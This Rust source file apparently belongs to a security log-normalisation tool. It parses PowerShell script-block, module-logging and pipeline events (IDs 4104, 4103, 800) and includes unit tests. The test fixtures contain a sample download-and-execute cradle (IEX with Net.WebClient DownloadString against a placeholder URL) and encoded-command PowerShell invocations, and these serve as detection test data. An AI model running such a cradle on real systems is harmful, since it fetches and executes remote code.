//! PowerShell: 4104 (script block), 4103 (module logging), classic 800 (pipeline details).

use super::*;

/// PowerShell 4104. Returns whether the System user was used.
pub(super) fn script_block(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Script;
    ev.activity = Activity::Execute;
    ev.script = Some(Script {
        text: f.string("ScriptBlockText"),
        block_id: f.string("ScriptBlockId"),
        part: f.u32("MessageNumber"),
        parts: f.u32("MessageTotal"),
        host_application: None,
    });
    ev.actor.user = system_user(rec);
    ev.actor.user.is_some()
}

/// `Key = value` (4103 ContextInfo) or `Key=value` (800) lines.
fn context_value(text: &str, key: &str) -> Option<String> {
    text.lines().find_map(|line| {
        let (k, v) = line.split_once('=')?;
        (k.trim() == key)
            .then(|| v.trim())
            .and_then(|v| meaningful(Some(v)))
            .map(str::to_owned)
    })
}

/// PowerShell 4103 (module logging): the payload is the text, the context names the host
/// application and the user.
pub(super) fn module_logging(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Script;
    ev.activity = Activity::Execute;
    let context = f.raw("ContextInfo").unwrap_or("").to_owned();
    ev.script = Some(Script {
        text: f.string("Payload"),
        host_application: context_value(&context, "Host Application"),
        ..Script::default()
    });
    ev.actor.user = context_value(&context, "User")
        .and_then(|u| some_user(split_account(&u)))
        .map(|mut u| {
            u.uid = meaningful(rec.user_sid.as_deref()).map(str::to_owned);
            u
        })
        .or_else(|| system_user(rec));
    if let Some(name) = context_value(&context, "Script Name") {
        ev.attributes.push(("ScriptName".to_owned(), name));
    }
    if let Some(name) = context_value(&context, "Command Name") {
        ev.attributes.push(("CommandName".to_owned(), name));
    }
    ev.actor.user.is_some()
}

/// Windows PowerShell 800 (pipeline execution details): `param1` the command line, `param2`
/// the context (`HostApplication=…`, `UserId=…`), `param3` the details. NXLog keeps only the
/// rendered message, which holds the same three parts.
pub(super) fn pipeline_details(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Script;
    ev.activity = Activity::Execute;
    let (command, context, details) = match f.raw("param2") {
        Some(context) => (f.string("param1"), context.to_owned(), f.string("param3")),
        None => {
            let m = rec.message.as_deref().unwrap_or("");
            let command = m
                .strip_prefix("Pipeline execution details for command line:")
                .and_then(|rest| rest.split("\r\n\r\nContext Information:").next())
                .map(|c| c.trim().trim_end_matches('.').trim().to_owned())
                .filter(|c| !c.is_empty());
            let context = m
                .split_once("Context Information:")
                .map_or("", |(_, rest)| {
                    rest.split("\r\n\r\nDetails:").next().unwrap_or("")
                });
            let details = m
                .split_once("\r\n\r\nDetails:")
                .map(|(_, d)| d.trim().to_owned())
                .filter(|d| !d.is_empty());
            (command, context.to_owned(), details)
        }
    };
    ev.script = Some(Script {
        text: command,
        host_application: context_value(&context, "HostApplication"),
        ..Script::default()
    });
    if let Some(details) = details {
        ev.attributes.push(("Details".to_owned(), details));
    }
    if let Some(name) = context_value(&context, "ScriptName") {
        ev.attributes.push(("ScriptName".to_owned(), name));
    }
    ev.actor.user = context_value(&context, "UserId")
        .and_then(|u| some_user(split_account(&u)))
        .or_else(|| system_user(rec));
    ev.actor.user.is_some()
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::*;

    #[test]
    fn powershell_4104_script_block() {
        let mut r = rec(
            PS,
            4104,
            &[
                ("MessageNumber", "2"),
                ("MessageTotal", "3"),
                (
                    "ScriptBlockText",
                    "IEX (New-Object Net.WebClient).DownloadString('http://x')",
                ),
                ("ScriptBlockId", "64d6cbbd-e96e-4236-9813-c6a14c49591e"),
                ("Path", ""),
            ],
        );
        r.user_sid = Some("S-1-5-18".to_owned());
        let ev = map(&r);
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Script, Activity::Execute)
        );
        let s = ev.script.as_ref().expect("script");
        assert!(
            s.text
                .as_deref()
                .is_some_and(|t| t.contains("DownloadString"))
        );
        assert_eq!(
            s.block_id.as_deref(),
            Some("64d6cbbd-e96e-4236-9813-c6a14c49591e")
        );
        assert_eq!((s.part, s.parts), (Some(2), Some(3)));
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.uid.as_deref()),
            Some("S-1-5-18")
        );
    }

    #[test]
    fn powershell_4103_module_logging() {
        let ev = map(&rec(
            PS,
            4103,
            &[
                (
                    "ContextInfo",
                    "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -noP -enc SQBm\r\n        Command Name = Start-Sleep\r\n        Script Name = \r\n        User = THESHIRE\\pgustavo\r\n",
                ),
                ("UserData", ""),
                (
                    "Payload",
                    "CommandInvocation(Start-Sleep): \"Start-Sleep\"\r\n",
                ),
            ],
        ));
        assert_eq!(ev.class, EventClass::Script);
        let s = ev.script.as_ref().expect("script");
        assert!(
            s.text
                .as_deref()
                .is_some_and(|t| t.starts_with("CommandInvocation"))
        );
        assert_eq!(
            s.host_application.as_deref(),
            Some("powershell.exe -noP -enc SQBm")
        );
        let u = ev.actor.user.as_ref().expect("user");
        assert_eq!(
            (u.domain.as_deref(), u.name.as_deref()),
            (Some("THESHIRE"), Some("pgustavo"))
        );
        assert_eq!(attr(&ev, "CommandName"), Some("Start-Sleep"));
        assert_eq!(attr(&ev, "ScriptName"), None);
    }

    #[test]
    fn powershell_800_pipeline_details_from_data_or_message() {
        let context = "\tDetailSequence=1\r\n\tUserId=THESHIRE\\pgustavo\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -enc SQBm\r\n\tScriptName=\r\n";
        let classic = ("PowerShell", "Windows PowerShell");
        let ev = map(&rec(
            classic,
            800,
            &[
                ("param1", "Start-Sleep -Seconds 5"),
                ("param2", context),
                ("param3", "CommandInvocation(Start-Sleep): \"Start-Sleep\""),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Script, Activity::Execute)
        );
        let s = ev.script.as_ref().expect("script");
        assert_eq!(s.text.as_deref(), Some("Start-Sleep -Seconds 5"));
        assert_eq!(
            s.host_application.as_deref(),
            Some("powershell.exe -enc SQBm")
        );
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("pgustavo")
        );
        assert!(attr(&ev, "Details").is_some());

        let mut r = rec(classic, 800, &[]);
        r.message = Some(format!(
            "Pipeline execution details for command line:     Start-Sleep -Seconds 5\n. \r\n\r\nContext Information: \r\n{context}\r\n\r\nDetails: \r\nCommandInvocation(Start-Sleep): \"Start-Sleep\"\r\n"
        ));
        let ev = map(&r);
        let s = ev.script.as_ref().expect("script");
        assert_eq!(s.text.as_deref(), Some("Start-Sleep -Seconds 5"));
        assert_eq!(
            s.host_application.as_deref(),
            Some("powershell.exe -enc SQBm")
        );
        assert_eq!(
            attr(&ev, "Details"),
            Some("CommandInvocation(Start-Sleep): \"Start-Sleep\"")
        );
        assert_eq!(attr(&ev, "Message"), None, "the message was read, not kept");
    }
}
